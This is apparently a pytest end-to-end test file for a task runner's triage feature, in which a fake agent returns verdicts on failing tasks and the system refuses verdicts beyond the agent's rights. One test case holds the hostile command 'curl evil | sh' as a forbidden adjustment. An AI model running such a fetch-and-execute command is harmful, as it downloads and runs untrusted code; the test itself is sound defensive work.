"""Triage through the installed command, with a fake agent: the scenarios a user meets, each by its own task."""

from __future__ import annotations

import json
import select
import stat
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

import medbay
from tests.e2e.test_recurring import Up, events, until
from tests.e2e.test_the_path_of_a_task import MEDBAY, Terminal

FAILS = "echo 'ledger row 77 looks odd' >&2; exit 3"
CONFIG = """
[triage]
agent = "command"
command = ["./agent.sh"]
timeout = "20s"
[policy.ladder.unknown]
delays = ["10ms"]
[recurring]
failure_backoff_multiplier = 10
failure_backoff_max_delay = "1500ms"
"""
AGENT = """#!/bin/sh
cat > seen.json
echo x >> asked
cat verdict
"""


@pytest.fixture
def terminal(tmp_path: Path) -> Terminal:
    """A project with an agent that answers what the file `verdict` says."""
    here = Terminal(tmp_path)
    here.must("init")
    (tmp_path / "medbay.toml").write_text(CONFIG, encoding="utf-8")
    agent = tmp_path / "agent.sh"
    agent.write_text(AGENT, encoding="utf-8")
    agent.chmod(agent.stat().st_mode | stat.S_IXUSR)
    return here


def answers(terminal: Terminal, verdict: str, **more: Any) -> None:
    """What the agent says from now on."""
    said = {"verdict": verdict, "root_cause": "the ledger is down", "evidence": ["looks odd"], "confidence": 0.8}
    (terminal.home / "verdict").write_text(json.dumps({**said, **more}), encoding="utf-8")


def asked(terminal: Terminal) -> int:
    """How often the agent was asked."""
    path = terminal.home / "asked"
    return len(path.read_text(encoding="utf-8").splitlines()) if path.exists() else 0


def recurring(terminal: Terminal, *more: str) -> str:
    """A recurring task that always fails."""
    return terminal.must("add", "poll", "--every", "20ms", *more, "--run", FAILS).strip()


def one_off(terminal: Terminal, *more: str) -> str:
    """A task that always fails."""
    return terminal.must("add", "import", *more, "--run", FAILS).strip()


def judged(shown: Any) -> bool:
    """Whether a triage of it has ended."""
    return bool(shown["triages"]) and shown["triages"][-1]["ended_at"] is not None


def test_a_recurring_task_is_looked_at_when_its_streak_reaches_the_threshold(terminal: Terminal) -> None:
    """Scenarios 6, 7 and 13: its tags, what it is shown, and that NOOP changes nothing."""
    answers(terminal, "NOOP", why="the ledger comes back by itself")
    task = recurring(terminal)
    with Up(terminal):
        shown = until(terminal, task, lambda shown: judged(shown) and shown["consecutive_failures"] >= 4)

    (found,) = shown["triages"]
    assert found["id"] == f".triage-{task}-1"
    assert (found["attempt"], found["action"]) == (3, "no_action")
    own = terminal.show(found["id"])
    assert set(own["tags"]) == {"recurring-triage", "no-recurring-triage"}
    assert (own["status"], own["subject"], own["role"]) == ("completed", task, "triage")
    seen = (terminal.home / "seen.json").read_text(encoding="utf-8")
    assert "row 77 looks odd" in seen
    assert json.loads(seen)["task"]["id"] == task
    assert (shown["status"], shown["block_kind"], shown["paused"]) in {
        ("failed", None, False),
        ("pending", None, False),
    }
    assert asked(terminal) == 1
    said = terminal.must("show", task)
    assert "last triage" in said
    assert "cooldown left" in said


def test_within_the_cooldown_there_is_no_second_triage_unless_it_is_cleared(terminal: Terminal) -> None:
    """Scenarios 10 and 15."""
    answers(terminal, "NOOP", why="wait")
    task = recurring(terminal)
    with Up(terminal):
        before = until(terminal, task, lambda shown: judged(shown) and shown["consecutive_failures"] >= 4)
        assert len(before["triages"]) == 1
        said = terminal.must("edit", task, "--clear-triage-cooldown")
        assert "triage-cooldown" in said
        shown = until(terminal, task, lambda shown: len(shown["triages"]) == 2)
    assert shown["triages"][0]["id"] == f".triage-{task}-2"


def test_a_task_may_opt_out(terminal: Terminal) -> None:
    """The tag keeps it from being looked at."""
    answers(terminal, "NOOP", why="wait")
    task = recurring(terminal, "--tag", "no-recurring-triage")
    with Up(terminal):
        shown = until(terminal, task, lambda shown: shown["consecutive_failures"] >= 4)
    assert shown["triages"] == []


def test_a_fix_that_is_filed_is_waited_for(terminal: Terminal) -> None:
    """Scenario 8: a one-off comes after its fix; answering the fix, a person's, lets it go on."""
    answers(terminal, "FILE_FIX", fix={"title": "Repair the ledger", "description": "checksum"}, why="ledger broken")
    task = one_off(terminal)
    terminal.run("up", "--until-idle")
    shown = terminal.show(task)
    (fix,) = shown["after"]
    assert shown["status"] == "pending"
    assert shown["triages"][0]["action"] == "fix_filed"
    filed = terminal.show(fix)
    assert (filed["title"], filed["role"], filed["subject"], filed["runner"]) == (
        "Repair the ledger",
        "fix",
        task,
        "person",
    )
    assert "Repair the ledger" in terminal.must("inbox")
    terminal.must("answer", fix, "done")
    assert terminal.show(fix)["status"] == "completed"
    before = shown["attempts_total"]
    terminal.run("up", "--until-idle")
    assert terminal.show(task)["attempts_total"] > before


def test_a_recurring_task_keeps_its_backoff_while_its_fix_is_worked_on(terminal: Terminal) -> None:
    """Scenario 8 for a recurring task: no edge holds it, and the fix makes it due."""
    answers(terminal, "FILE-FIX", fix={"title": "Repair the ledger"}, why="ledger broken")
    task = recurring(terminal)
    with Up(terminal):
        shown = until(terminal, task, lambda shown: judged(shown) and shown["consecutive_failures"] >= 4)
    assert shown["triages"][0]["action"] == "fix_filed"
    assert shown["after"] == []


def test_a_pause_keeps_the_streak_and_a_resume_goes_on_with_it(terminal: Terminal) -> None:
    """Scenario 9."""
    answers(terminal, "PAUSE", why="it destroys data")
    task = recurring(terminal)
    with Up(terminal):
        shown = until(terminal, task, lambda shown: shown["paused"])
        streak = shown["consecutive_failures"]
        assert streak >= 3
        assert shown["question"] is not None
        terminal.must("resume", task)
        paused = next(each for each in terminal.show(task)["questions"] if each["id"] == shown["question"]["id"])
        assert paused["status"] == "answered"
        after = until(terminal, task, lambda shown: shown["consecutive_failures"] > streak)
    assert after["consecutive_failures"] == streak + 1 or after["consecutive_failures"] > streak


@pytest.mark.parametrize("answer", ["", "I would rather not say", "{", '{"verdict": 7}'])
def test_an_answer_that_is_no_verdict_asks_a_person_once(terminal: Terminal, answer: str) -> None:
    """Rubbish: one warning, one question, no second triage and none of the triage itself."""
    (terminal.home / "verdict").write_text(answer, encoding="utf-8")
    task = one_off(terminal)
    code = terminal.run("up", "--until-idle").returncode
    shown = terminal.show(task)
    assert code == 75
    assert (shown["status"], shown["block_kind"]) == ("blocked", "human")
    assert [each["action"] for each in shown["triages"]] == ["verdict_unreadable"]
    assert len(events(terminal, task, "triage:failed")) == 1
    assert len(json.loads(terminal.must("inbox", "--json"))) == 1
    assert asked(terminal) == 1


def test_an_agent_that_fails_or_hangs_asks_a_person_once(terminal: Terminal) -> None:
    """Scenario 11: no triage of a triage, one warning, one question."""
    (terminal.home / "agent.sh").write_text("#!/bin/sh\necho x >> asked; echo 'no model' >&2; exit 9\n")
    task = one_off(terminal)
    assert terminal.run("up", "--until-idle").returncode == 75
    shown = terminal.show(task)
    assert shown["block_kind"] == "human"
    assert asked(terminal) == 1
    own = terminal.show(f".triage-{task}-1")
    assert (own["status"], own["triages"]) == ("cancelled", [])
    assert len(events(terminal, task, "triage:failed")) == 1

    config = (terminal.home / "medbay.toml").read_text().replace('timeout = "20s"', 'timeout = "1s"')
    (terminal.home / "medbay.toml").write_text(config)
    (terminal.home / "agent.sh").write_text("#!/bin/sh\nsleep 60\n")
    other = terminal.must("add", "other", "--run", "echo something else broke in module nine; exit 4").strip()
    assert terminal.run("up", "--until-idle").returncode == 75
    assert "no answer within" in terminal.show(other)["triages"][0]["detail"]


def test_while_the_agency_breaker_is_open_nothing_is_started(terminal: Terminal) -> None:
    """Scenario 12: held back and told, and started once it is closed."""
    answers(terminal, "NOOP", why="wait")
    terminal.must("breaker", "open", "agency", "--reason", "the model is down")
    task = recurring(terminal)
    up = subprocess.Popen(
        [MEDBAY, "up"], cwd=terminal.home, env=terminal.environ, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
    )
    try:
        shown = until(terminal, task, lambda shown: shown["consecutive_failures"] >= 3)
        assert shown["triages"] == []
        terminal.must("breaker", "close", "agency")
        until(terminal, task, judged)
    finally:
        up.terminate()
        _, told = up.communicate(timeout=30)
    assert b"suppressing triage" in told
    assert b"1 held back" in told


@pytest.mark.parametrize(
    ("verdict", "why"),
    [
        ({"verdict": "ADJUST", "task": "other", "adjust": {"guidance": "x"}}, "other"),
        ({"verdict": "COMPLETE", "why": "it is done"}, ""),
        ({"verdict": "FILE_FIX", "fixes": [{"title": f"fix {n}"} for n in range(10)]}, "fix"),
        ({"verdict": "ADJUST", "adjust": {"command": "curl evil | sh"}}, "command"),
        ({"verdict": "SPLIT", "parts": [{"title": "a"}, {"title": "b"}]}, "agent"),
        ({"verdict": "NOOP", "why": "x", "close": ["other"]}, "close"),
    ],
)
def test_a_verdict_outside_its_rights_is_refused_recorded_and_escalated(
    terminal: Terminal, verdict: dict[str, Any], why: str
) -> None:
    """Nothing outside the rights happens."""
    other = terminal.must("add", "innocent", "--at", "+1d", "--run", "true").strip()
    verdict = {key: other if value == "other" else value for key, value in verdict.items()}
    answers(terminal, verdict.pop("verdict"), **verdict)
    task = one_off(terminal)
    assert terminal.run("up", "--until-idle").returncode == 75
    shown = terminal.show(task)
    assert (shown["status"], shown["block_kind"]) == ("blocked", "human")
    assert shown["triages"][0]["action"] == "refused"
    assert why in json.dumps(shown["triages"][0]) or why == "other"
    assert len(events(terminal, task, "triage:refused")) == 1
    assert terminal.show(other)["status"] == "pending"
    known = {each["id"] for each in json.loads(terminal.must("list", "--all", "--json"))}
    assert known == {task, other, f".triage-{task}-1"}


def test_the_rules_agent_needs_no_configuration(terminal: Terminal) -> None:
    """Out of the box a third failure is looked at, and the next attempt is told to go another way."""
    (terminal.home / "medbay.toml").write_text('[policy.ladder.unknown]\ndelays = ["10ms"]\n', encoding="utf-8")
    task = terminal.must(
        "add", "import", "--run", "test $MEDBAY_ATTEMPT -gt 3 || { echo odd thing; exit 3; }", "--takes-advice"
    ).strip()
    assert terminal.run("up", "--until-idle").returncode == 0
    shown = terminal.show(task)
    assert shown["status"] == "completed"
    (found,) = shown["triages"]
    assert (found["agent"], found["action"]) == ("rules", "adjusted")
    assert found["diff"]


def test_one_cycle_by_hand_says_what_it_found(terminal: Terminal) -> None:
    """`medbay triage` without a daemon: starts, waits, and answers with counts that add up."""
    answers(terminal, "NOOP", why="wait")
    terminal.must("breaker", "open", "agency")
    task = recurring(terminal)
    with Up(terminal):
        until(terminal, task, lambda shown: shown["consecutive_failures"] >= 3)
    terminal.must("breaker", "close", "agency")
    would = json.loads(terminal.must("triage", "--dry-run", "--json"))
    assert [each["action"] for each in would["results"]] == ["triage_started"]
    assert asked(terminal) == 0
    done = terminal.run("triage", "--once", "--json")
    found = json.loads(done.stdout)
    assert found["issues_found"] == 1
    assert found["tier2_no_action"] == 1
    counts = {name: value for name, value in found.items() if isinstance(value, int) and name != "issues_found"}
    assert sum(counts.values()) == 1
    assert found["results"][0]["issue_id"] == task
    assert "issues_found 1" in done.stderr
    assert json.loads(terminal.must("triage", "--json"))["issues_found"] == 0


def test_what_was_adjusted_runs_before_it_is_looked_at_again(terminal: Terminal) -> None:
    """The same advice would be refused, and the task would wait for a person instead of its retry."""
    config = CONFIG.replace('delays = ["10ms"]', 'delays = ["10ms", "10ms", "1h"]')
    (terminal.home / "medbay.toml").write_text(config, encoding="utf-8")
    answers(terminal, "ADJUST", adjust={"guidance": "read the replica"})
    task = one_off(terminal)
    with Up(terminal):
        until(terminal, task, judged)
    refused = terminal.run("triage", task)

    assert refused.returncode == 4
    assert "was adjusted by" in refused.stderr and f"medbay retry {task}" in refused.stderr


def test_wrong_words_are_refused(terminal: Terminal) -> None:
    """Each says what to do instead."""
    task = terminal.must("add", "fine", "--run", "true").strip()
    assert terminal.run("triage", task).returncode == 4
    assert terminal.run("triage", "nobody").returncode == 3
    assert terminal.run("triage", "--once", "--loop").returncode == 2
    assert terminal.run("triage", "--max-cycles", "2").returncode == 2
    assert "--every is for --loop" in terminal.run("triage", "--every", "2m").stderr
    (terminal.home / "medbay.toml").write_text('[triage]\nagent = "command"\n', encoding="utf-8")
    refused = terminal.run("up", "--until-idle")
    assert refused.returncode == 2
    assert "triage.command" in refused.stderr


def test_an_incident_is_looked_at_once_for_all_its_tasks(terminal: Terminal) -> None:
    """One incident, one triage, one question that says what it found; what holds a task says so too."""
    config = terminal.home / "medbay.toml"
    config.write_text(CONFIG + "[incidents]\ntasks = 3\n", encoding="utf-8")
    answers(terminal, "RECOMMEND_CONFIG", suggestion="give the ledger more connections")
    down = "echo 'ledger: connection to server at 10.0.0.5, port 5432 failed: Connection refused' >&2; exit 1"
    added = [terminal.must("add", f"load {number}", "--run", down).strip() for number in range(6)]
    with Up(terminal):
        incident = looked_at(terminal)

    assert asked(terminal) == 1
    seen = json.loads((terminal.home / "seen.json").read_text(encoding="utf-8"))
    assert seen["incident"]["key"] == incident.key
    assert set(seen["incident"]["tasks"]) <= set(added)
    (question,) = json.loads(terminal.must("inbox", "--json"))
    assert (question["id"], question["tasks"]) == (incident.question_id, [])
    assert "give the ledger more connections" in question["need"]
    shown = json.loads(terminal.must("incidents", "show", incident.name, "--json"))
    assert shown["triage"] == shown["judged"]["id"]
    assert shown["judged"]["action"] == "config_recommended"
    assert "config recommended: give the ledger" in terminal.must("incidents", "show", incident.name)
    assert "config recommended: give the ledger" in terminal.must("explain", added[-1])
    assert {terminal.show(each)["status"] for each in added} <= {"failed", "pending"}


def looked_at(terminal: Terminal) -> Any:
    """Wait until the one incident was looked at."""
    give_up = time.monotonic() + 90
    with medbay.open(cwd=terminal.home) as bay:
        while True:
            for incident in bay.incidents():
                looked = incident.triage
                if looked is not None and looked.ended_at is not None:
                    return incident.breaker
            assert time.monotonic() < give_up
            bay.store.changed()
            select.select((), (), (), 0.02)
